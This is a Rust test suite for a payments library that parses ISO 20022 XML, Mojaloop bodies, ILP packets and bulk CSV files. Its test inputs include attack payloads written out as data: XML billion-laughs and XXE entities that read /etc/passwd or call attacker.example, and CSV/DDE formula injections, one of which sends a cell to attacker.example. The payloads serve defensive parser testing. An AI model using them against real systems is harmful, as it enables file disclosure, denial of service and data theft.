//! Payments: ISO 20022 XML intake, Mojaloop bodies, ILP packets, bulk CSV.

use dpikit_core::encoding::b64url_encode;
use dpikit_core::{ErrorCode, Limits};
use dpikit_payments::bulk::{self, Account, BatchConfig, CsvLimits};
use dpikit_payments::iso::{self, ParseOptions};
use dpikit_payments::mojaloop::{self, ilp};
use serde_json::{Value, json};

use crate::{Case, Outcome, battery_cases, bytes, case, data, err, ok, param, repeat, text};

pub(crate) fn run(op: &str, input: &Value) -> Option<Outcome> {
    Some(match op {
        "iso20022.parse" => data(input).and_then(|d| {
            let parsed = iso::parse(&d, &ParseOptions::default()).map_err(|e| e.code())?;
            Ok(json!(parsed.message.document.kind().id()))
        }),
        "mojaloop.parse" => mojaloop_parse(input),
        "ilp.decode" => text(input).and_then(|t| {
            let raw = ilp::decode_packet_b64(&t).map_err(|e| e.code())?;
            let p = ilp::IlpPrepare::decode(&raw).map_err(|e| e.code())?;
            Ok(json!({"amount": p.amount, "destination": p.destination}))
        }),
        "ilp.verify_fulfilment" => text(input).and_then(|f| {
            ilp::verify_fulfilment(&f, param(input, "condition")?)
                .map(|()| json!(true))
                .map_err(|e| e.code())
        }),
        "bulk.from_csv" => data(input).and_then(|d| {
            let outcome = bulk::from_csv(&d, &config(), &CsvLimits::default()).map_err(|e| e.code())?;
            Ok(json!({
                "names": outcome.batch.payments().map(|p| p.beneficiary.name.clone()).collect::<Vec<_>>(),
                "errors": outcome.errors.iter().map(|e| json!([e.row, e.column, e.code.name()])).collect::<Vec<_>>(),
            }))
        }),
        _ => return None,
    })
}

fn mojaloop_parse(input: &Value) -> Outcome {
    let d = data(input)?;
    let l = Limits::default();
    let r = match param(input, "body")? {
        "quote" => mojaloop::parse_quote_request(&d, &l).map(|_| ()),
        "transfer" => mojaloop::parse_transfer_request(&d, &l).map(|_| ()),
        "fulfil" => mojaloop::parse_transfer_fulfil(&d, &l).map(|_| ()),
        "parties" => mojaloop::parse_parties_response(&d, &l).map(|_| ()),
        _ => return Err(ErrorCode::InvalidArgument),
    };
    r.map(|()| json!(true)).map_err(|e| e.code())
}

fn config() -> BatchConfig {
    BatchConfig::new(
        "B-2026-11-29",
        "2026-11-29T08:00:00Z",
        "2026-12-01",
        "City of Springfield",
        Account::Iban("DE89370400440532013000".into()),
    )
}

const CSV_HEADER: &str = "id,name,account,amount,currency,reference\n";

fn pain001() -> String {
    let csv = format!("{CSV_HEADER}P-1,Ana Lima,DE02120300000000202051,120.50,EUR,Subsidy Nov\n");
    #[allow(clippy::expect_used)] // A fixed, valid batch.
    let outcome = bulk::from_csv(csv.as_bytes(), &config(), &CsvLimits::default()).expect("batch");
    #[allow(clippy::expect_used)]
    outcome.batch.to_pain001_xml().expect("pain.001")
}

pub(crate) fn cases() -> Vec<Case> {
    let mut out = Vec::new();
    iso_cases(&mut out);
    mojaloop_cases(&mut out);
    bulk_cases(&mut out);
    out
}

fn iso_cases(out: &mut Vec<Case>) {
    let op = "iso20022.parse";
    let c = |id: &str, d: Value, expect| {
        case(&format!("payments/{op}/{id}"), op, json!({"data": d}), expect)
    };
    let xml = pain001();
    let body = xml.trim_start_matches(|c| c != '<').to_owned();
    let (decl, rest) = body
        .split_once("?>")
        .map_or((String::new(), body.clone()), |(a, b)| (format!("{a}?>"), b.to_owned()));
    let with_prolog = |prolog: &str| format!("{decl}\n{prolog}{rest}");
    out.push(c("control-pain001", json!(xml), ok(json!("pain.001.001.09"))));
    out.push(c(
        "doctype-plain",
        json!(with_prolog("<!DOCTYPE Document>\n")),
        err(ErrorCode::XmlForbidden),
    ));
    let laughs = "<!DOCTYPE Document [\n<!ENTITY lol \"lol\">\n<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n<!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n]>\n";
    out.push(c("billion-laughs", json!(with_prolog(laughs)), err(ErrorCode::XmlForbidden)));
    out.push(c(
        "billion-laughs-entity-used",
        json!(with_prolog(laughs).replace("Subsidy Nov", "&lol9;")),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "external-entity-file",
        json!(
            with_prolog("<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n")
                .replace("Subsidy Nov", "&xxe;")
        ),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "external-entity-http",
        json!(
            with_prolog(
                "<!DOCTYPE Document [<!ENTITY xxe SYSTEM \"http://attacker.example/x\">]>\n"
            )
            .replace("Subsidy Nov", "&xxe;")
        ),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "external-parameter-entity",
        json!(with_prolog(
            "<!DOCTYPE Document [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\"> %p;]>\n"
        )),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "external-dtd",
        json!(with_prolog("<!DOCTYPE Document SYSTEM \"http://attacker.example/d.dtd\">\n")),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "doctype-after-comment",
        json!(with_prolog("<!-- x -->\n<!DOCTYPE Document>\n")),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "undeclared-entity-reference",
        json!(xml.replace("Subsidy Nov", "&undeclared;")),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "processing-instruction-stylesheet",
        json!(with_prolog("<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>\n")),
        ok(json!("pain.001.001.09")),
    ));
    out.push(c(
        "nesting-10000",
        repeat(&[("<a>", 10_000), ("</a>", 10_000)]),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "nesting-100000-unclosed",
        repeat(&[("<a>", 100_000)]),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "nesting-in-document-200",
        json!(xml.replace("Subsidy Nov", &format!("{}x{}", "<x>".repeat(200), "</x>".repeat(200)))),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "size-50mib",
        repeat(&[("<Document>", 1), ("A", 50 << 20), ("</Document>", 1)]),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "size-50mib-comment",
        repeat(&[("<!--", 1), ("-", 50 << 20), ("-->", 1)]),
        err(ErrorCode::XmlForbidden),
    ));
    out.push(c(
        "attributes-100000",
        repeat(&[("<Document ", 1), ("a=\"1\" ", 100_000), ("/>", 1)]),
        err(ErrorCode::MalformedMessage),
    ));
    out.push(c(
        "duplicate-attribute",
        json!("<Document xmlns=\"x\" xmlns=\"y\"/>"),
        err(ErrorCode::MalformedMessage),
    ));
    out.push(c(
        "unknown-namespace",
        json!("<Document xmlns=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.99\"/>"),
        err(ErrorCode::UnsupportedMessage),
    ));
    out.push(c("no-namespace", json!("<Document/>"), err(ErrorCode::MalformedMessage)));
    out.push(c(
        "unknown-element-strict",
        json!(xml.replace("</CstmrCdtTrfInitn>", "<Evil>1</Evil></CstmrCdtTrfInitn>")),
        err(ErrorCode::UnknownElement),
    ));
    out.push(c(
        "amount-100-digits",
        json!(xml.replace(">120.50<", &format!(">{}.50<", "9".repeat(100)))),
        err(ErrorCode::MalformedMessage),
    ));
    out.push(c(
        "invalid-utf8",
        bytes(&[xml.as_bytes(), b"\xff"].concat()),
        err(ErrorCode::MalformedMessage),
    ));
    let mut in_text = xml.replacen("Subsidy Nov", "Subsidy \u{7f}", 1).into_bytes();
    if let Some(i) = in_text.iter().position(|&b| b == 0x7f) {
        in_text[i] = 0xff;
    }
    out.push(c("invalid-utf8-in-text", bytes(&in_text), err(ErrorCode::MalformedMessage)));
    out.push(c("truncated", json!(&xml[..xml.len() / 2]), err(ErrorCode::MalformedMessage)));
    out.push(c(
        "cdata-markup",
        json!(xml.replace("Subsidy Nov", "<![CDATA[<!DOCTYPE x [<!ENTITY a \"b\">]>]]>")),
        ok(json!("pain.001.001.09")),
    ));
    out.push(c("empty", json!(""), err(ErrorCode::MalformedMessage)));
}

fn mojaloop_cases(out: &mut Vec<Case>) {
    for body in ["quote", "transfer", "fulfil", "parties"] {
        out.extend(battery_cases(
            &format!("payments/mojaloop.parse/{body}"),
            "mojaloop.parse",
            &json!({"body": body}),
            |_, c| c,
        ));
        out.push(case(
            &format!("payments/mojaloop.parse/{body}/wrong-shape"),
            "mojaloop.parse",
            json!({"body": body, "data": "{\"hello\": [\"city\"]}"}),
            err(ErrorCode::MojaloopInvalid),
        ));
    }
    let op = "ilp.decode";
    let c = |id: &str, d: Value, expect| {
        case(&format!("payments/{op}/{id}"), op, json!({"data": d}), expect)
    };
    let prepare = ilp::IlpPrepare {
        amount: 12_050,
        expires_at: "20261129080000000".into(),
        execution_condition: [7; 32],
        destination: "g.mojaloop.payee".into(),
        data: b"eyJ0cmFuc2FjdGlvbklkIjoiMSJ9".to_vec(),
    };
    #[allow(clippy::expect_used)] // A fixed, valid packet.
    let packet = prepare.encode().expect("packet");
    out.push(c(
        "control",
        json!(b64url_encode(&packet)),
        ok(json!({"amount": 12_050, "destination": "g.mojaloop.payee"})),
    ));
    out.push(c(
        "truncated",
        json!(b64url_encode(&packet[..packet.len() - 5])),
        err(ErrorCode::IlpInvalid),
    ));
    let mut longer = packet.clone();
    longer.push(0);
    out.push(c("trailing-byte", json!(b64url_encode(&longer)), err(ErrorCode::IlpInvalid)));
    let mut wrong_type = packet.clone();
    wrong_type[0] = 13;
    out.push(c("wrong-type-fulfil", json!(b64url_encode(&wrong_type)), err(ErrorCode::IlpInvalid)));
    let mut huge_len = packet.clone();
    huge_len.splice(1..2, [0x84, 0xff, 0xff, 0xff, 0xff]);
    out.push(c("length-4-gib", json!(b64url_encode(&huge_len)), err(ErrorCode::IlpInvalid)));
    let mut len_127 = vec![12, 0x80 | 9];
    len_127.extend([0xff; 9]);
    out.push(c(
        "length-of-length-9-bytes",
        json!(b64url_encode(&len_127)),
        err(ErrorCode::IlpInvalid),
    ));
    out.push(c("empty", json!(""), err(ErrorCode::IlpInvalid)));
    out.push(c("not-base64", json!("***"), err(ErrorCode::IlpInvalid)));
    out.push(c("size-50mib", repeat(&[("DAE", 1), ("A", 50 << 20)]), err(ErrorCode::IlpInvalid)));
    let bad_dest = ilp::IlpPrepare { destination: "g.\u{0}evil".into(), ..prepare.clone() };
    if let Ok(p) = bad_dest.encode() {
        out.push(c(
            "destination-control-char",
            json!(b64url_encode(&p)),
            err(ErrorCode::IlpInvalid),
        ));
    }
    let op = "ilp.verify_fulfilment";
    let f = [3u8; 32];
    let cond = ilp::condition(&f);
    let v = |id: &str, ful: String, cond: String, expect| {
        case(&format!("payments/{op}/{id}"), op, json!({"data": ful, "condition": cond}), expect)
    };
    out.push(v("control", b64url_encode(&f), b64url_encode(&cond), ok(json!(true))));
    out.push(v(
        "wrong-fulfilment",
        b64url_encode(&[4; 32]),
        b64url_encode(&cond),
        err(ErrorCode::ConditionMismatch),
    ));
    out.push(v(
        "condition-as-fulfilment",
        b64url_encode(&cond),
        b64url_encode(&cond),
        err(ErrorCode::ConditionMismatch),
    ));
    out.push(v(
        "fulfilment-31-bytes",
        b64url_encode(&[3; 31]),
        b64url_encode(&cond),
        err(ErrorCode::IlpInvalid),
    ));
    out.push(v(
        "fulfilment-padded",
        format!("{}=", b64url_encode(&f)),
        b64url_encode(&cond),
        err(ErrorCode::IlpInvalid),
    ));
}

fn bulk_cases(out: &mut Vec<Case>) {
    let op = "bulk.from_csv";
    let c = |id: &str, d: Value, expect| {
        case(&format!("payments/{op}/{id}"), op, json!({"data": d}), expect)
    };
    let row = |name: &str, reference: &str| {
        format!(
            "{CSV_HEADER}P-1,\"{}\",DE02120300000000202051,120.50,EUR,\"{}\"\n",
            name.replace('"', "\"\""),
            reference.replace('"', "\"\"")
        )
    };
    out.push(c(
        "control",
        json!(row("Ana Lima", "Subsidy Nov")),
        ok(json!({"names": ["Ana Lima"], "errors": []})),
    ));
    // CSV injection: formulas are data. They are carried as text into pain.001 (never
    // evaluated, never re-exported as CSV by dpikit), so the rows are accepted verbatim.
    for (id, name) in [
        ("csv-injection-equals", "=HYPERLINK(\"http://attacker.example\",\"Ana\")"),
        ("csv-injection-plus", "+1+cmd|' /C calc'!A0"),
        ("csv-injection-minus", "-2+3+cmd|' /C calc'!A0"),
        ("csv-injection-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("csv-injection-dde", "=cmd|' /C notepad'!'A1'"),
    ] {
        out.push(c(
            id,
            json!(row(name, "Subsidy Nov")),
            ok(json!({"names": [name], "errors": []})),
        ));
    }
    out.push(c(
        "csv-injection-tab-prefix",
        json!(row("\t=1+1", "Subsidy Nov")),
        ok(json!({"names": ["=1+1"], "errors": []})),
    ));
    out.push(c(
        "csv-injection-cr-prefix",
        json!(row("\r=1+1", "Subsidy Nov")),
        ok(json!({"names": ["=1+1"], "errors": []})),
    ));
    out.push(c(
        "csv-injection-in-reference",
        json!(row("Ana Lima", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1),\"//a\")")),
        ok(json!({"names": ["Ana Lima"], "errors": []})),
    ));
    out.push(c(
        "amount-100-digits",
        json!(format!(
            "{CSV_HEADER}P-1,Ana,DE02120300000000202051,{}.50,EUR,Ref\n",
            "9".repeat(100)
        )),
        ok(json!({"names": [], "errors": [[2, "amount", "invalid_amount"]]})),
    ));
    out.push(c(
        "amount-formula",
        json!(format!("{CSV_HEADER}P-1,Ana,DE02120300000000202051,=1+1,EUR,Ref\n")),
        ok(json!({"names": [], "errors": [[2, "amount", "invalid_amount"]]})),
    ));
    out.push(c("header-missing-column", json!("id,name\nA,B\n"), err(ErrorCode::BulkRowInvalid)));
    out.push(c(
        "unbalanced-quote",
        json!(format!("{CSV_HEADER}P-1,\"Ana,DE02120300000000202051,1.00,EUR,Ref\n")),
        ok(json!({"names": [], "errors": [[2, "account", "bulk_row_invalid"]]})),
    ));
    out.push(c(
        "invalid-utf8",
        bytes(&[CSV_HEADER.as_bytes(), b"P-1,\xff,DE02120300000000202051,1.00,EUR,Ref\n"].concat()),
        err(ErrorCode::BulkRowInvalid),
    ));
    out.push(c(
        "size-50mib",
        repeat(&[
            (CSV_HEADER, 1),
            ("P-1,Ana,DE02120300000000202051,1.00,EUR,Ref\n", (50 << 20) / 44),
        ]),
        err(ErrorCode::BulkRowInvalid),
    ));
    out.push(c(
        "columns-100000",
        repeat(&[(CSV_HEADER.trim_end(), 1), (",x", 100_000), ("\n", 1)]),
        ok(json!({"names": [], "errors": []})),
    ));
    out.push(c("duplicate-id", json!(format!("{CSV_HEADER}P-1,Ana,DE02120300000000202051,1.00,EUR,Ref\nP-1,Bo,DE02120300000000202051,1.00,EUR,Ref\n")), ok(json!({"names": ["Ana"], "errors": [[3, "reference", "duplicate_id"]]}))));
    out.push(c("empty", json!(""), err(ErrorCode::BulkRowInvalid)));
}
